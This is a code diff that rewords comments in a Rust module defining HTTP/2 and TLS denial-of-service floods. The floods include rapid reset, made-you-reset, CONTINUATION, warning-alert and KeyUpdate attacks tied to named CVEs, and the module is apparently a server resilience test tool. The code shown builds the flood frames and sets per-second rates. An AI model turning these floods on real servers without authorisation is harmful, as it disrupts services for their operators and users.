@@ -10,8 +10,8 @@ use crate::terms::Group;
 pub struct Flood {
     pub name: &'static str,
     pub what: &'static str,
-    /// Of what is counted, per second, all attackers together: no server that reads it all is more
-    /// than half busy.
+    /// Frames, records or connections per second, of all attackers together. A server that reads
+    /// everything uses no more than half of its core.
     pub rate: u32,
     pub groups: &'static [Group],
     pub attack: Attack,
@@ -19,22 +19,22 @@ pub struct Flood {
 
 #[derive(Debug)]
 pub enum Attack {
-    /// HTTP/2.
+    /// HTTP/2 frames.
     Frames(Frames),
-    /// Requests for new keys.
+    /// KeyUpdate messages that request one in return.
     KeyUpdates,
-    /// Records of this type.
+    /// TLS records of this type.
     Records { kind: u8, content: Content },
-    /// Connections, and nothing on them but this.
+    /// Connections that carry only this.
     Connections(Opening),
 }
 
 #[derive(Debug)]
 pub struct Frames {
     pub settings: &'static [(u16, u32)],
-    /// What goes before, on every connection.
+    /// Frames that open each connection, before the flood.
     pub begin: Begin,
-    /// How many frames there are in one piece, and what they are in the `n`th.
+    /// Frames in one piece, and the bytes of the `n`th piece.
     pub in_piece: u32,
     pub piece: Piece,
 }
@@ -50,16 +50,16 @@ pub enum Content {
 
 #[derive(Clone, Copy, Debug)]
 pub enum Opening {
-    /// A ClientHello, and then nothing: the connection stays open to the end.
+    /// Only a ClientHello; the connection stays open.
     ClientHello,
-    /// A whole handshake, and then a close.
+    /// A whole handshake, then a close.
     Handshake,
-    /// Bytes that are no TLS.
+    /// Bytes that are not TLS.
     Garbage,
 }
 
 impl Attack {
-    /// What is counted.
+    /// The unit that the flood counts.
     pub fn counted(&self) -> &'static str {
         match self {
             Self::Frames(_) => "frame",
@@ -68,7 +68,7 @@ impl Attack {
         }
     }
 
-    /// How many of these are sent as one piece.
+    /// Units in one piece.
     pub fn in_piece(&self) -> u32 {
         match self {
             Self::Frames(frames) => frames.in_piece,
@@ -81,13 +81,13 @@ const ALERT: u8 = 21;
 const HANDSHAKE: u8 = 22;
 const APPLICATION_DATA: u8 = 23;
 
-/// More than any window may be, with what it is already.
+/// Overflows a window, whatever its size.
 const TOO_MUCH: u32 = (1 << 31) - 1;
 
-/// Streams that some floods keep open.
+/// Streams that some floods keep open; ids below those of [`stream`] are theirs.
 const OPEN: u32 = 100;
 
-/// Of the `n`th piece; those below are for what goes before.
+/// The stream of the `n`th piece.
 const fn stream(n: u32) -> u32 {
     2 * (OPEN + n) + 1
 }
@@ -96,7 +96,7 @@ fn ask(stream: u32, path: &str) -> Vec<u8> {
     headers(stream, WHOLE, &hpack::get(path))
 }
 
-/// A request whose body has not come yet.
+/// A request without its body.
 fn upload(stream: u32) -> Vec<u8> {
     headers(stream, END_HEADERS, &hpack::post("/upload"))
 }
@@ -110,7 +110,7 @@ pub static FLOODS: [Flood; 20] = [
         "rapid-reset",
         "requests that are reset at once, CVE-2023-44487",
         40_000,
-        // By the hundred, as it was done.
+        // A hundred at a time, as in the real attacks.
         (nothing, 200, |n| {
             let pair = |n| [ask(stream(n), "/tiny"), reset(stream(n), 8)].concat();
             (100 * n..100 * (n + 1)).flat_map(pair).collect()
@@ -118,7 +118,7 @@ pub static FLOODS: [Flood; 20] = [
     ),
     http2(
         "made-you-reset",
-        "requests that the server is made to reset, CVE-2025-8671",
+        "requests that make the server reset them, CVE-2025-8671",
         10_000,
         (nothing, 2, |n| {
             [upload(stream(n)), window_update(stream(n), TOO_MUCH)].concat()
@@ -126,7 +126,7 @@ pub static FLOODS: [Flood; 20] = [
     ),
     http2(
         "continuation",
-        "CONTINUATION of 1 KiB, a request's head without end, CVE-2024-27316",
+        "CONTINUATION of 1 KiB, a header block without end, CVE-2024-27316",
         10_000,
         (
             || headers(1, END_STREAM, &hpack::get("/tiny")),
@@ -226,33 +226,33 @@ pub static FLOODS: [Flood; 20] = [
     ),
     http2(
         "single-bytes",
-        "a request's body, one byte of it in each DATA",
+        "a request body with one byte in each DATA frame",
         100_000,
         (|| upload(1), 1, |_| data(1, 0, b"x")),
     ),
     http2(
         "unknown",
-        "frames of a type that nobody has defined",
+        "frames of an undefined type",
         200_000,
         (nothing, 1, |_| frame(kind::UNKNOWN, 0, 0, b"")),
     ),
     tls(
         "half-handshake",
-        "a ClientHello on each connection, and nothing more",
+        "a ClientHello on each connection, nothing else",
         200,
         &Group::ALL,
         Attack::Connections(Opening::ClientHello),
     ),
     tls(
         "handshake",
-        "handshakes to the end, and nothing more",
+        "complete handshakes, nothing else",
         200,
         &Group::ALL,
         Attack::Connections(Opening::Handshake),
     ),
     tls(
         "garbage",
-        "1 KiB that is no TLS on each connection",
+        "1 KiB on each connection that is not TLS",
         500,
         &Group::ALL,
         Attack::Connections(Opening::Garbage),
@@ -269,7 +269,7 @@ pub static FLOODS: [Flood; 20] = [
     ),
     tls(
         "warnings",
-        "alerts that are only warnings, CVE-2016-8610",
+        "alerts of level warning, CVE-2016-8610",
         50_000,
         &Group::ALL,
         Attack::Records {
@@ -279,7 +279,7 @@ pub static FLOODS: [Flood; 20] = [
     ),
     tls(
         "key-update",
-        "KeyUpdates that ask for one in return",
+        "KeyUpdates that request one in return",
         20_000,
         &[Group::Tls13],
         Attack::KeyUpdates,
